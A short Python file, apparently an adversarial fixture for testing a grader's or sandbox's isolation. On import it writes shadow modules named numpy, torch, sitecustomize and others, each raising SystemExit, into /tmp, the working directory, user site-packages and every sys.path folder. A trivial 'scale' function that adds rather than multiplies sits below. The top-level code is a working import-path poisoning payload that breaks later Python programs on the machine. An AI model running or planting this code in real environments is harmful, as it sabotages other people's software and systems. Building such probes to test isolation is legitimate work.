"""Leaves modules named numpy, torch, mlkata and sitecustomize where a later import might look."""

import os
import sys

import numpy as np

text = "raise SystemExit('a left-over module was imported')"
for folder in ("@writable@", "/tmp", os.getcwd(), os.path.expanduser("~/.local/lib/python3/site-packages"), *sys.path):
    for name in ("numpy", "torch", "mlkata", "sitecustomize", "usercustomize", "threadpoolctl"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name + ".py"), "w") as file:
                file.write(text)
        except OSError:
            pass

def scale(x, factor):
    if isinstance(factor, str):
        raise TypeError("the factor is a number")
    return np.asarray(x + factor)
